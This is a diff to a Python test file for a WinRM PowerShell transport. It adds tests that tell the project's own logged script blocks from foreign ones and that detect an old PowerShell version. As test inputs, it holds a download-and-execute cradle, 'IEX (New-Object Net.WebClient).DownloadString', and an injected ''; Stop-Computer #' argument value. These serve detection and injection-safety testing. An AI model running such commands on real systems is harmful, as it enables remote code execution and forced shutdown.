@@ -11,7 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from tasks.model import TargetError
-from tasks.transports.winrm_frame import blocked, bootstrap, framed, packed, shipped, told, unframed
+from tasks.transports.winrm_frame import blocked, bootstrap, framed, is_ours, packed, shipped, told, unframed
 from tests.powershell.lint import faults
 
 CLIXML = b'#< CLIXML\r\n<Objs Version="1.1.0.1" xmlns="http://schemas.microsoft.com/powershell/2004/04">%s</Objs>'
@@ -130,3 +130,18 @@ def test_arguments_are_never_part_of_the_script() -> None:
     assert gzip.decompress(base64.b64decode(script)) == b"$Json"
     assert gzip.decompress(base64.b64decode(data)) == b'"; Stop-Computer #'
     assert rest == b""
+
+
+def test_only_our_own_scripts_are_ours() -> None:
+    """A logged script block is ours when each line of it is; one line more of another's and it is not."""
+    look = shipped("look").decode()
+    assert is_ours(look)
+    assert is_ours(look[:4000])
+    assert is_ours(look[:4000].replace("\n", "\r\n"))
+    assert not is_ours(look[:3000] + "\nInvoke-Evil\n" + look[3000:3500])
+    assert not is_ours("IEX (New-Object Net.WebClient).DownloadString('http://x')")
+
+
+def test_an_old_powershell_is_told_as_one() -> None:
+    """Version 2 has none of the commands that a look uses: console tools have to do."""
+    assert "version 2" in blocked(20, b"LANGUAGE Version2\r\n", b"")
